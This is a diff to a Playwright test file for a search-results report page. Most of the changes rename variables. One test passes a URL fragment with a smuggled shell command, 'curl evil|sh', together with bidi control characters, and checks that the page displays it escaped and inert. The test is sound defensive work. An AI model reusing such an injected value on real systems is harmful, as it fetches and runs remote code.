@@ -63,8 +63,8 @@ FILTERS: list[tuple[dict[str, Any], Callable[[Entry], bool]]] = [
 ]  # fmt: skip
 
 
-def ask(page: Page, asked: Mapping[str, Any]) -> None:
-    for control, value in asked.items():
+def ask(page: Page, requests: Mapping[str, Any]) -> None:
+    for control, value in requests.items():
         place = page.locator(f'[name="{control}"]')
         if value is True:
             place.check()
@@ -102,13 +102,13 @@ def test_a_filter_finds_what_results_json_holds(
 def test_an_answer_that_is_missing_can_be_found(browser: Browser, demo: Path) -> None:
     from playwright.sync_api import expect
 
-    with opened(browser, address_of(demo), locale="en-US") as found:
-        ask(found.page, {"nothing": True})
-        assert listed_queries(found.page) == ["zh-04", "en-04"]
-        ask(found.page, {"engine": "compass"})
-        assert listed_queries(found.page) == ["en-04"]
-        found.page.locator("button.open").click()
-        expect(found.page.locator("section.engine .trouble")).to_have_text(
+    with opened(browser, address_of(demo), locale="en-US") as result:
+        ask(result.page, {"nothing": True})
+        assert listed_queries(result.page) == ["zh-04", "en-04"]
+        ask(result.page, {"engine": "compass"})
+        assert listed_queries(result.page) == ["en-04"]
+        result.page.locator("button.open").click()
+        expect(result.page.locator("section.engine .trouble")).to_have_text(
             "error: HTTP 503 Service Unavailable"
         )
 
@@ -145,8 +145,8 @@ def test_lines_are_drawn_as_they_are_needed(watched: Watched) -> None:
 @pytest.fixture
 def chinese(browser: Browser, report: Path) -> Iterator[Watched]:
     """The page in Chinese."""
-    with opened(browser, address_of(report), locale="zh-CN") as found:
-        yield found
+    with opened(browser, address_of(report), locale="zh-CN") as result:
+        yield result
 
 
 @check_each(
@@ -182,10 +182,10 @@ def test_a_query_that_is_not_there_is_named_with_nothing_hidden_and_in_no_comman
     browser: Browser, report: Path
 ) -> None:
     address = f"{address_of(report)}#q=x;curl+evil|sh%0A%E2%80%AE%E2%81%A9"
-    with opened(browser, address, locale="en-US") as found:
-        said = found.page.locator(".count").text_content() or ""
-        assert "Query \u2068x;curl evil|sh\\x0a\\x202e\\x2069\u2069 is not on this page" in said
-        assert "--query" not in said
+    with opened(browser, address, locale="en-US") as result:
+        text = result.page.locator(".count").text_content() or ""
+        assert "Query \u2068x;curl evil|sh\\x0a\\x202e\\x2069\u2069 is not on this page" in text
+        assert "--query" not in text
 
 
 def test_it_prints_every_query_that_is_found(watched: Watched) -> None:
@@ -212,9 +212,9 @@ def test_links_lead_where_the_engine_pointed_and_no_address_is_none(browser: Bro
     }
     rows = [{**shown, "engine": engine, "rank": 1, "url": url} for engine, url in addresses.items()]
     path = write_page(tmp_path, ran(tmp_path / "run", rows))
-    with opened(browser, f"{address_of(path)}#q=q", locale="en-US") as found:
+    with opened(browser, f"{address_of(path)}#q=q", locale="en-US") as result:
         links = {
-            engine: found.page.get_by_role("article", name=f"{engine}, rank 1").locator(".where")
+            engine: result.page.get_by_role("article", name=f"{engine}, rank 1").locator(".where")
             for engine in addresses
         }
         hrefs = {
